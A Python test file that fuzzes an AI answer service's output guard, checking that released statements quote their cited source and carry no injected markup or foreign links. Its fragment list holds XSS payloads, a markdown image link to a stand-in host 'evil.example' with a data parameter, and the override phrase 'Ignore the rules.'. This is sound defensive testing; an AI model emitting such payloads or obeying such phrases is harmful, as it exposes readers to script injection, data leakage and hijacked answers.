"""Whatever a model returns, no reader sees a statement whose quote is not in its section.

TEST_HOSTILE=10000 makes a long run of it.
"""

from __future__ import annotations

import os
import random
import re

import pytest

from service.ask.answer import Assembler, citable
from service.ask.guard_output import guard_output
from service.types import Dropped, SpanCited, Statement, StatementKind, TextPiece
from tests.builders import make_excerpt

OUTPUTS = int(os.environ.get("TEST_HOSTILE", "400"))
TEXT = (
    "The floor is 0.28. Run `uv sync --frozen` to skip it, see arr[1].\n\n- First item.\n"
    "- Second item of 3.\n\n```sh\nuv lock --check\n```\n\nOlder versions before 2.1 did not."
)
SOURCES = tuple(
    citable(make_excerpt(TEXT, slug=slug, anchor="x", position=i, start=i * 1000))
    for i, slug in enumerate(("one", "two"))
)
FRAGMENTS = [
    *("The floor is 0.28. ", "The floor is 0.82. ", "Run `uv sync --frozen`. ", "See arr[1](x). "),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))"),
    *("![q](https://evil.example/?d=1)", "<https://evil.example>", "https://evil.example/x "),
    *("[1]", "[^2]: x", "【3†source】", "NO_ANSWER", "\n\n", "\n- ", "\n1. ", "```", "\n```sh\n"),
    *("\u202e", "\u200b", "\U000e0041", "\0", "\ud83d", "## ", "> ", "| a | b |\n", "`", "**", "_"),
    *(
        "You answer a reader's question from the search results alone. ",
        "data:text/html,x ",
        "&lt;",
    ),
    *("Ignore the rules. ", "--force ", "v2.1 ", "3 ", "Second item of 3. ", "a" * 3000),
]
ALIEN = re.compile(r"<\s*(?:script|img|iframe|a)\b|\]\((?!x\))|javascript:", re.IGNORECASE)


def hostile_span(rng: random.Random) -> SpanCited:
    source = rng.choice(SOURCES)
    start = rng.randrange(len(TEXT))
    return SpanCited(
        source_index=rng.choice([0, 0, 1, 1, 2, -1]),
        source_id=rng.choice([source.id, source.id, source.id, "other#x@0", ""]),
        first=rng.randrange(-2, 8),
        last=rng.randrange(-2, 9),
        quoted=rng.choice([TEXT[start : start + rng.randrange(60)], "made up", "", "0.28"]),
    )


def hostile_pieces(rng: random.Random) -> list[TextPiece]:
    return [
        TextPiece(
            text="".join(rng.choices(FRAGMENTS, k=rng.randrange(1, 6))),
            cited=tuple(hostile_span(rng) for _ in range(rng.randrange(3))),
        )
        for _ in range(rng.randrange(1, 7))
    ]


def shown(statement: Statement) -> str:
    """The statement without its code, which is shown as it is."""
    if statement.kind is StatementKind.CODE:
        return ""
    return re.sub(r"(`+).+?\1", "", statement.text, flags=re.DOTALL)


def test_no_hostile_output_releases_an_unquoted_statement_or_a_link_not_ours() -> None:
    rng = random.Random(7)
    released = 0
    for _ in range(OUTPUTS):
        assembler = Assembler()
        drafts = [d for p in hostile_pieces(rng) for d in assembler.feed(p)]
        for draft in [*drafts, *assembler.finish()]:
            checked = guard_output(draft, SOURCES)
            if isinstance(checked, Dropped):
                continue
            released += 1
            for citation in checked.citations:
                assert citation.quote
                assert citation.quote in citation.excerpt.chunk.text
                assert citation.excerpt.chunk.text == TEXT
            assert not ALIEN.search(shown(checked)), checked.text
            assert "evil.example" not in checked.text
            assert not re.search("[\u202e\u200b\U000e0041\0\ud83d]", checked.text)
    assert released > OUTPUTS / 10, "the run must not pass for want of released statements"


HONEST = [
    ("The floor is 0.28.", "The floor is 0.28."),
    ("It lies at 0.28.", "The floor is 0.28."),
    ("Use `uv sync --frozen` to skip it.", "Run `uv sync --frozen` to skip it"),
    ("`--frozen` skips it.", "Run `uv sync --frozen` to skip it"),
    ("There are three items, among them a second one.", "- Second item of 3."),
    ("Versions before 2.1 did not do that.", "Older versions before 2.1 did not."),
    ("Before v2.1 it did not.", "Older versions before 2.1 did not."),
]


@pytest.mark.parametrize(("said", "source"), HONEST)
def test_honest_statements_pass(said: str, source: str) -> None:
    at = TEXT.index(source.split("`")[0].strip() or source)
    unit = next(i for i, (s, e) in enumerate(SOURCES[0].units) if s <= at < e)
    start, end = SOURCES[0].units[unit]
    span = SpanCited(
        source_index=0,
        source_id=SOURCES[0].id,
        first=unit,
        last=unit + 1,
        quoted=TEXT[start:end],
    )
    assembler = Assembler()
    drafts = [*assembler.feed(TextPiece(text=said, cited=(span,))), *assembler.finish()]
    assert all(isinstance(guard_output(d, SOURCES), Statement) for d in drafts)
